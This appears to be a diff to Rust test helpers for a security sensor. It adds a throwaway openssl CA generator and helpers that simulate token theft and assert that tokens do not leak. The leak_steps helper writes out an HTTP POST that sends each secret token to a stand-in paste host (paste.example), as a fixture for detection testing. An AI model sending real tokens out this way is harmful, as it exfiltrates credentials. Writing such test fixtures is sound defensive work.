@@ -14,6 +14,8 @@ use sensor::sensor::{Sensor, WatchArgs};
 use sensor::state::events::SensorEvent;
 use tokio::sync::mpsc;
 
+pub mod kafka;
+
 /// A binary next to the test executable's profile directory (target/<profile>/NAME).
 fn target_bin(name: &str) -> PathBuf {
     let exe = std::env::current_exe().expect("current_exe");
@@ -1070,4 +1072,104 @@ pub fn parse_cef(line: &str) -> Result<CefLine, String> {
         }
     }
     Ok((fields, pairs))
+}
+
+/// `openssl` makes a CA and a server certificate for 127.0.0.1 signed by it.
+pub fn make_ca(dir: &std::path::Path, name: &str) -> (PathBuf, PathBuf, PathBuf) {
+    let run = |args: &[&str]| {
+        let o = Command::new("openssl")
+            .args(args)
+            .current_dir(dir)
+            .output()
+            .expect("openssl");
+        assert!(
+            o.status.success(),
+            "openssl {args:?}: {}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+    };
+    let (ca, ca_key) = (format!("{name}-ca.pem"), format!("{name}-ca.key"));
+    let (crt, key, csr) = (
+        format!("{name}-srv.pem"),
+        format!("{name}-srv.key"),
+        format!("{name}-srv.csr"),
+    );
+    run(&[
+        "req",
+        "-x509",
+        "-newkey",
+        "rsa:2048",
+        "-nodes",
+        "-keyout",
+        &ca_key,
+        "-out",
+        &ca,
+        "-days",
+        "2",
+        "-subj",
+        &format!("/CN={name} test CA"),
+    ]);
+    run(&[
+        "req",
+        "-newkey",
+        "rsa:2048",
+        "-nodes",
+        "-keyout",
+        &key,
+        "-out",
+        &csr,
+        "-subj",
+        "/CN=127.0.0.1",
+    ]);
+    let ext = dir.join(format!("{name}.ext"));
+    std::fs::write(
+        &ext,
+        "subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
+    )
+    .unwrap();
+    run(&[
+        "x509",
+        "-req",
+        "-in",
+        &csr,
+        "-CA",
+        &ca,
+        "-CAkey",
+        &ca_key,
+        "-CAcreateserial",
+        "-out",
+        &crt,
+        "-days",
+        "2",
+        "-extfile",
+        ext.to_str().unwrap(),
+    ]);
+    (dir.join(ca), dir.join(crt), dir.join(key))
+}
+
+/// Workload steps sending each token in its own HTTP request to `sink` (not an issuer).
+pub fn leak_steps(tokens: &[String], sink: std::net::SocketAddr) -> Vec<String> {
+    tokens
+        .iter()
+        .flat_map(|t| {
+            [
+                format!("set:POST /paste HTTP/1.1\r\nHost: paste.example\r\nContent-Length: 46\r\n\r\ntoken={t}"),
+                format!("tcp:{sink}"),
+            ]
+        })
+        .collect()
+}
+
+/// Asserts no token's secret part is in `places` (name, text) or in any file under `dirs`.
+pub fn assert_no_token(tokens: &[String], places: &[(&str, String)], dirs: &[&std::path::Path]) {
+    for t in tokens {
+        let secret = &t[4..];
+        for (what, text) in places {
+            assert!(!text.contains(secret), "token leaked into {what}");
+        }
+        for d in dirs {
+            let hits = files_containing(d, secret.as_bytes());
+            assert!(hits.is_empty(), "token bytes in {hits:?}");
+        }
+    }
 }
